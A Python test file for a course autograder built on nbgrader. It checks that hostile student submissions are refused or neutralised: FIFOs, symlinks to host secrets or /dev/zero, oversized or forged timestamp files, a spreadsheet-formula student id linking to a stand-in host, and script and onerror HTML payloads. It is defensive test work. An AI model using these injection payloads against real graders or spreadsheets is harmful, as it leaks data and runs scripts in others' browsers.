"""Hostile files in a submission folder: a FIFO, a link to a host file, a student id that is a formula.

Each was a hole before: a FIFO named like the notebook blocked the grader and
the similarity screen for ever; a link was followed, and the "not a
notebook" message quoted the first bytes of whatever host file it named;
a student id such as ``=HYPERLINK(...)`` became a live formula in
cohort.csv; a timestamp.txt that claimed an early time escaped the late
penalty. Each is now refused or neutralised, with a clear reason, and
the other students are still handled.
"""

from __future__ import annotations

import csv
import datetime
import io
import os
import subprocess
import sys
from pathlib import Path

import nbformat
from nbgrader.utils import parse_utc

from autograder.course import cohort, similarity
from autograder.course.gradebook import read_timestamp
from autograder.data import REPO_ROOT
from autograder.host.grader import grade
from tests import samples

A = "02_activations"
SECRET = "host-secret-7c1f"


def test_a_fifo_named_like_the_notebook_is_refused_at_once(tmp_path):
    folder = tmp_path / "eve" / A
    folder.mkdir(parents=True)
    os.mkfifo(folder / f"{A}.ipynb")
    report = grade(folder, A)  # would block for ever if the FIFO were opened for reading
    assert report.score == 0 and "is not a regular file" in report.error
    assert cohort.submission_files(folder) == []


def test_a_link_to_a_host_file_is_never_read(tmp_path):
    host_file = tmp_path / "grader-secret.txt"
    host_file.write_text(SECRET + " not json")
    folder = tmp_path / "eve" / A
    folder.mkdir(parents=True)
    (folder / f"{A}.ipynb").symlink_to(host_file)
    report = grade(folder / f"{A}.ipynb", A)
    assert report.score == 0 and "is a symbolic link" in report.error
    assert SECRET not in report.table(detail=True)
    assert cohort.submission_files(folder) == []  # grade-all sees no notebook there: "holds no notebook"


def test_the_similarity_screen_skips_fifos_and_links_and_compares_the_rest(tmp_path):
    for student in ("ada", "bob"):
        samples.write(samples.student_notebook(A), tmp_path / student, A)
    os.mkfifo(tmp_path / "fifo-student.ipynb")
    (tmp_path / "eve" / A).mkdir(parents=True)
    (tmp_path / "eve" / A / f"{A}.ipynb").symlink_to(tmp_path / "fifo-student.ipynb")
    (tmp_path / "mal" / A).mkdir(parents=True)
    os.mkfifo(tmp_path / "mal" / A / "other.ipynb")
    submissions, skipped = similarity.load_submissions(tmp_path, A)
    assert sorted(submissions) == ["ada", "bob"]
    assert sorted(student for student, _ in skipped) == ["eve", "mal"]


def test_a_student_id_or_reason_that_is_a_formula_stays_text_in_cohort_csv():
    records = [
        {
            "student": '=HYPERLINK("http://x.example/?"&A1,"click")',
            "graded_at": "2026-11-29",
            "fingerprint": "0" * 64,
            "report": {"score": 0, "max_score": 10, "tests": [], "error": "@SUM(1+1)", "seconds": 1.0},
        },
        {
            "student": "ada",
            "graded_at": "2026-11-29",
            "fingerprint": "0" * 64,
            "report": {"score": 10, "max_score": 10, "tests": [], "error": None, "seconds": 1.0},
        },
    ]
    rows = list(csv.DictReader(io.StringIO(cohort.cohort_csv(records, A))))
    assert rows[0]["student"].startswith("'=HYPERLINK") and rows[0]["reason"] == "'@SUM(1+1)"
    assert rows[1]["student"] == "ada" and rows[1]["reason"] == ""


SCRIPT = '<script>alert("from a student")</script> and <img src=x onerror="alert(1)">'


def test_a_students_html_in_markdown_is_inert_in_the_autograded_notebook():
    """nbgrader's feedback and the formgrader render autograded/'s markdown as HTML: it ran the student's."""
    import nbformat

    from autograder.course.gradebook import autograded_notebook
    from autograder.course.report import Report

    notebook = samples.student_notebook(A)
    lesson = next(cell for cell in notebook.cells if cell.cell_type == "markdown" and "<" not in cell.source)
    notebook.cells.insert(3, nbformat.v4.new_markdown_cell(SCRIPT))
    notebook.cells.insert(4, nbformat.v4.new_raw_cell(SCRIPT))
    attached = nbformat.v4.new_markdown_cell(lesson.source, attachments={"x.svg": {"image/svg+xml": "<svg/>"}})
    notebook.cells.insert(5, attached)
    shown = autograded_notebook(Report("eve", A, [], notebook=notebook))
    texts = [cell.source for cell in shown.cells if cell.cell_type != "code"]
    assert not any("<script" in text or "<img" in text for text in texts)
    assert "&lt;script&gt;" in shown.cells[3].source and "&lt;script&gt;" in shown.cells[4].source
    assert "attachments" not in shown.cells[5]
    assert lesson.source in texts  # the lesson's own text is left as it is


def test_timestamp_txt_is_read_only_as_a_small_regular_file_in_nbgraders_format(tmp_path):
    """A FIFO blocked grade-all's main process for ever, a link to /dev/zero was read until memory ran out,
    and a megabyte of digits took nbgrader's parser 50 s before it raised, on every run."""
    from autograder.course.gradebook import read_timestamp

    cases = {"fifo": None, "zero": None, "digits": None, "garbage": None, "good": "2026-11-20 10:00:00.000000 UTC"}
    for name in cases:
        (tmp_path / name).mkdir()
    os.mkfifo(tmp_path / "fifo" / "timestamp.txt")
    (tmp_path / "zero" / "timestamp.txt").symlink_to("/dev/zero")
    (tmp_path / "digits" / "timestamp.txt").write_text("1" * 1_000_000)
    (tmp_path / "garbage" / "timestamp.txt").write_text("yesterday, honest")
    (tmp_path / "good" / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC\n")
    assert {name: read_timestamp(tmp_path / name) for name in cases} == cases


def test_submission_secret_txt_is_copied_only_as_a_small_regular_file_of_hex_digits(tmp_path):
    """grade-all copies nbgrader's submission_secret.txt into autograded/ (release_feedback needs it); a link
    to a file of the grader's, a FIFO, a huge file or anything but hex must not be read into it."""
    from autograder.course.gradebook import read_secret

    secret = "0123456789abcdef" * 8  # nbgrader submit's secrets.token_hex(64)
    cases = {"link": None, "fifo": None, "huge": None, "not hex": None, "good": secret}
    for name in cases:
        (tmp_path / name).mkdir()
    (tmp_path / "link" / "submission_secret.txt").symlink_to(Path(__file__))
    os.mkfifo(tmp_path / "fifo" / "submission_secret.txt")
    (tmp_path / "huge" / "submission_secret.txt").write_text("a" * 1_000_000)
    (tmp_path / "not hex" / "submission_secret.txt").write_text("<script>alert(1)</script>")
    (tmp_path / "good" / "submission_secret.txt").write_text(secret)
    assert {name: read_secret(tmp_path / name) for name in cases} == cases


def test_only_the_assignments_notebook_is_shipped_and_the_total_is_capped(tmp_path):
    """Every file of a submission was read and held (64 MB each, no total): 3 GB in the main process.
    Now only the assignment's notebook and timestamp travel to a worker, and the total is capped."""
    submitted = tmp_path / "submitted"
    bob = submitted / "bob" / A
    bob.mkdir(parents=True)
    samples.write(samples.student_notebook(A), submitted / "bob", A)
    (bob / "timestamp.txt").write_text("2026-11-29 10:00:00.000000 UTC")
    for index in range(5):  # large decoys beside the notebook: never read
        with open(bob / f"scratch-{index}.ipynb", "wb") as handle:
            handle.truncate(60 * 2**20)
    eve = submitted / "eve" / A  # no notebook under the assignment's name: all notebooks would travel
    eve.mkdir(parents=True)
    for index in range(3):
        with open(eve / f"renamed-{index}.ipynb", "wb") as handle:
            handle.truncate(60 * 2**20)
    group = cohort.Cohort(A, submitted=submitted, out=tmp_path / "out", options=cohort.Options(secret="s"))
    job = group.job(cohort.Submission("bob", bob, "f"))
    assert sorted(job["files"]) == [f"{A}.ipynb", "timestamp.txt"]
    refused = group.job(cohort.Submission("eve", eve, "f"))
    assert refused.score == 0 and "more than 128 MB together" in refused.error


def test_a_forged_early_timestamp_is_dated_by_the_exchange_and_a_huge_one_is_never_parsed(tmp_path):
    """``nbgrader submit`` writes timestamp.txt in the student's own process, and the inbound folder's name
    too: a late submission that wrote an early time in both escaped the late penalty. ``python -m autograder
    collect`` runs nbgrader's collect, then dates each submission by the inbound folders' change times
    (ctime, which no user can set back); a student's later time still counts. A 1 MB timestamp.txt, which
    stalls nbgrader's parser in ``collect --update``, is removed before nbgrader can read it."""
    course, exchange = tmp_path / "course", tmp_path / "exchange"
    course.mkdir()
    config = (REPO_ROOT / "nbgrader_config.py").read_text()
    (course / "nbgrader_config.py").write_text(config + f"\nc.Exchange.root = {str(exchange)!r}\n")
    inbound = exchange / "dl-basics-workbook" / "inbound"
    inbound.mkdir(parents=True)
    notebook = nbformat.writes(samples.release_notebook(A))
    claims = {
        "mallory": "2020-01-01 00:00:00.000000 UTC",  # the forger: long before the due date
        "ada": "2099-01-01 00:00:00.000000 UTC",  # a clock ahead: later than the exchange, so it counts
        "bob": "2020-01-01 00:00:00 UTC " + "9" * (1 << 20),  # 1 MB
    }
    began = datetime.datetime.utcnow() - datetime.timedelta(seconds=2)  # naive UTC, as nbgrader's parse_utc
    for student, claim in claims.items():
        folder = inbound / f"{student}+{A}+2020-01-01 00:00:00.000000 UTC+{student}00"
        folder.mkdir()
        (folder / f"{A}.ipynb").write_text(notebook)
        (folder / "timestamp.txt").write_text(claim)
    bin_dir = Path(sys.executable).parent
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    # As an instructor might have done first: nbgrader's own collect copies bob's 1 MB file into submitted/.
    subprocess.run([bin_dir / "nbgrader", "collect", A], cwd=course, env=env, check=True, capture_output=True)
    assert (course / "submitted" / "bob" / A / "timestamp.txt").stat().st_size > 1 << 20
    done = subprocess.run(
        [sys.executable, "-m", "autograder", "collect", A, "--update"],
        cwd=course,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    dated = {student: read_timestamp(course / "submitted" / student / A) for student in claims}
    assert all(dated.values()), dated  # every one small and in nbgrader's format
    when = {student: parse_utc(text) for student, text in dated.items()}
    now = datetime.datetime.utcnow()
    assert began <= when["mallory"] <= now and began <= when["bob"] <= now, (when, done.stdout)
    assert when["ada"] == parse_utc(claims["ada"])
    assert "bob: its collected timestamp.txt was not in nbgrader's format: removed" in done.stdout
    assert "mallory: dated" in done.stdout and "not later, not used" in done.stdout
